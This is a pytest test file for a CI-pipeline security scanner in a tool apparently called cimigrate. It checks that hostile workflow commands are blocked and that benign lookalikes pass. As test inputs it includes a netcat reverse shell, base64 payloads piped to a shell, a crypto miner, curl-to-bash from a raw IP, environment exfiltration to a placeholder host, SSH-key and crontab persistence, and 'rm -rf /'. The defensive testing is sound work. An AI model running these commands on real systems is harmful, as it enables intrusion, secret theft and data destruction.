"""Tests for the security pre-screen."""

from __future__ import annotations

import pytest

from cimigrate.models import Severity
from cimigrate.security import SecurityRejected, SecurityScanner, first_blocked
from tests._fixtures.pipelines import JENKINSFILE, WORKFLOW


def _workflow_with(command: str) -> str:
    return (
        "on: push\n"
        "jobs:\n"
        "  build:\n"
        "    runs-on: ubuntu-latest\n"
        "    steps:\n"
        f"      - run: {command}\n"
    )


def test_reverse_shell_is_rejected() -> None:
    scanner = SecurityScanner()
    with pytest.raises(SecurityRejected) as excinfo:
        scanner.check(_workflow_with("nc -e /bin/sh 10.0.0.5 4444"))
    rejected = excinfo.value
    assert rejected.category == "reverse-shell"
    assert "nc -e /bin/sh" in rejected.excerpt
    assert rejected.to_dict()["line"] == 6


def test_base64_payload_piped_to_shell_is_blocked() -> None:
    diagnostics = SecurityScanner().scan(_workflow_with("echo ZWNobyBoaQ== | base64 -d | sh"))
    blocked = first_blocked(diagnostics)
    assert blocked is not None
    assert blocked.metadata["category"] == "obfuscated-execution"
    assert blocked.metadata["suggestion"]


def test_first_blocked_follows_catalog_order() -> None:
    text = _workflow_with("./xmrig --donate-level 1") + "      - run: echo aGk= | base64 --decode | bash\n"
    with pytest.raises(SecurityRejected) as excinfo:
        SecurityScanner().check(text)
    assert excinfo.value.category == "obfuscated-execution"
    categories = [diag.metadata["category"] for diag in excinfo.value.diagnostics]
    assert "cryptomining" in categories


def test_sample_pipelines_are_clean() -> None:
    scanner = SecurityScanner()
    assert scanner.scan(WORKFLOW) == []
    assert scanner.check(JENKINSFILE) == []


def test_warnings_do_not_block_by_default() -> None:
    diagnostics = SecurityScanner().check(_workflow_with("chmod 777 build"))
    assert [diag.severity for diag in diagnostics] == [Severity.WARNING]


def test_strict_mode_promotes_warnings() -> None:
    scanner = SecurityScanner(strict=True)
    with pytest.raises(SecurityRejected) as excinfo:
        scanner.check(_workflow_with("chmod 777 build"))
    assert excinfo.value.category == "structural"


def test_raw_ip_download_warns_and_piped_download_blocks() -> None:
    scanner = SecurityScanner()
    download = scanner.scan(_workflow_with("curl -O http://93.184.216.34/tool.tar.gz"))
    assert [diag.metadata["category"] for diag in download] == ["raw-ip-download"]
    assert download[0].severity is Severity.WARNING

    piped = scanner.scan(_workflow_with("curl -s http://10.1.2.3/setup | bash"))
    blocked = first_blocked(piped)
    assert blocked is not None
    assert blocked.metadata["category"] == "raw-ip-download"


def test_private_address_download_is_ignored() -> None:
    assert SecurityScanner().scan(_workflow_with("wget http://10.1.2.3/tool.tar.gz")) == []


def test_vague_step_names_warn() -> None:
    text = _workflow_with("make").replace("      - run: make\n", "      - name: misc\n        run: make\n")
    diagnostics = SecurityScanner().scan(text)
    assert len(diagnostics) == 1
    assert diagnostics[0].metadata["detector"] == "vague-step-name"
    assert diagnostics[0].severity is Severity.WARNING


def test_vague_stage_names_warn_for_jenkins() -> None:
    diagnostics = SecurityScanner().scan(JENKINSFILE.replace("stage('Lint')", "stage('stuff')"))
    assert [diag.message for diag in diagnostics] == ["vague step name: `stuff`"]


def test_netcat_port_check_then_shell_command_is_clean() -> None:
    command = "while ! nc -z db 5432; do sleep 1; done; bash -c ./scripts/migrate.sh"
    assert SecurityScanner().scan(_workflow_with(command)) == []


@pytest.mark.parametrize(
    ("command", "category"),
    [
        ("env | curl -X POST --data-binary @- https://collector.example.com", "data-exfiltration"),
        ("echo ssh-ed25519 AAAAC3Nz >> ~/.ssh/authorized_keys", "persistence-mechanism"),
        ("echo '0 * * * * /tmp/job' | crontab -", "persistence-mechanism"),
        ("rm -rf / --no-preserve-root", "structural"),
    ],
)
def test_blocked_catalog_categories(command: str, category: str) -> None:
    with pytest.raises(SecurityRejected) as excinfo:
        SecurityScanner().check(_workflow_with(command))
    assert excinfo.value.category == category


@pytest.mark.parametrize(
    "command",
    [
        "env | sort > build-env.txt",
        "curl -fsSL -o tool.tar.gz https://downloads.example.com/tool.tar.gz",
        "ssh-keyscan github.com >> ~/.ssh/known_hosts",
        "crontab -l",
        "rm -rf ./dist /tmp/cache",
    ],
)
def test_benign_lookalikes_are_clean(command: str) -> None:
    assert SecurityScanner().scan(_workflow_with(command)) == []
